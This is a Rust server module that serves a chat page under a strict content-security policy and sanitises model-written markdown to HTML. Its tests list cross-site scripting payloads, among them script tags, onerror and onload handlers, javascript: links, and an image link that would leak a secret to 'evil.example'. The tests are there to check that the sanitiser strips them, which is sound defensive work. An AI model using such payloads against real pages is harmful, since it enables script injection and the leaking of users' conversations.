//! The web page, four files in the binary (chat, and `studio` for training and adapters), and markdown made safe on the server.

use std::collections::HashSet;

use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};

const PAGE: &str = include_str!("page/chat.html");
const SCRIPT: &str = include_str!("page/chat.js");
const STUDIO: &str = include_str!("page/studio.js");
const STYLE: &str = include_str!("page/chat.css");

/// Nothing from elsewhere, no inline script, no frame around it.
const POLICY: &str = "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src data:; \
    form-action 'none'; base-uri 'none'; frame-ancestors 'none'";

fn file(kind: &'static str, text: &'static str) -> Response {
    let mut response = text.into_response();
    let headers = response.headers_mut();
    headers.insert(header::CONTENT_TYPE, HeaderValue::from_static(kind));
    headers.insert(header::CONTENT_SECURITY_POLICY, HeaderValue::from_static(POLICY));
    headers.insert(header::REFERRER_POLICY, HeaderValue::from_static("no-referrer"));
    headers.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-cache"));
    response
}

/// `/`
pub(super) async fn page() -> Response {
    file("text/html; charset=utf-8", PAGE)
}

/// `/chat.js`
pub(super) async fn script() -> Response {
    file("text/javascript; charset=utf-8", SCRIPT)
}

/// `/studio.js`
pub(super) async fn studio() -> Response {
    file("text/javascript; charset=utf-8", STUDIO)
}

/// `/chat.css`
pub(super) async fn style() -> Response {
    file("text/css; charset=utf-8", STYLE)
}

/// Longest text that is rendered; the page shows a longer one as it is.
pub(super) const MARKDOWN_BYTES: usize = 128 * 1024;
/// Deepest nesting that is rendered: cleaning takes time by the square of it.
const DEPTH: usize = 32;

/// Markdown as HTML that carries no script, style, form or image, whatever the model wrote. HTML in it is shown as text.
pub(super) fn markdown(text: &str) -> String {
    use pulldown_cmark::{Event, Options, Parser, html};
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut depth = 0;
    let events = Parser::new_ext(text, options).filter_map(|event| match event {
        Event::Html(html) | Event::InlineHtml(html) => Some(Event::Text(html)),
        Event::Start(_) => {
            depth += 1;
            (depth <= DEPTH).then_some(event)
        }
        Event::End(_) => {
            depth -= 1;
            (depth < DEPTH).then_some(event)
        }
        event => Some(event),
    });
    let mut dirty = String::with_capacity(text.len() * 2);
    html::push_html(&mut dirty, events);
    // An image's address would tell another server what was said.
    ammonia::Builder::default()
        .rm_tags(["img", "map", "area"])
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .clean(&dirty)
        .to_string()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn markdown_is_rendered_and_scripts_are_not() {
        let html = markdown("**bold** `code`\n\n```python\nprint(1 < 2)\n```\n\n| a |\n|---|\n| b |\n");
        for part in ["<strong>bold</strong>", "<code>code</code>", "print(1 &lt; 2)", "<td>b</td>"] {
            assert!(html.contains(part), "{part} in {html}");
        }
        for text in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "![x](http://evil.example/?secret)",
            "[x](javascript:alert(1))",
            "<a href=\"data:text/html,x\" onclick=\"y()\">z</a>",
            "<svg onload=alert(1)>",
            "<style>*{display:none}</style>",
            "<form action=/v1><input></form>",
            "<iframe src=//evil.example></iframe>",
        ] {
            let html = markdown(text);
            for bad in
                ["<script", "<img", "<a href=\"javascript:", "<a href=\"data:", "<svg", "<style", "<form", "<iframe"]
            {
                assert!(!html.contains(bad), "{text} became {html}");
            }
        }
    }

    #[test]
    fn deep_nesting_takes_no_time() {
        for text in [">", "<b>", "<div>", "- ", "[", "*a ", "**", "![", "<font><a><b>", "~~"] {
            let start = std::time::Instant::now();
            markdown(&text.repeat(MARKDOWN_BYTES / text.len()));
            assert!(start.elapsed().as_secs() < 5, "{text}: {:?}", start.elapsed());
        }
    }

    proptest! {
        #[test]
        fn any_text_is_rendered(text in "\\PC{0,200}") {
            let html = markdown(&text);
            prop_assert!(!html.contains("<script") && !html.contains("<img"));
        }
    }
}
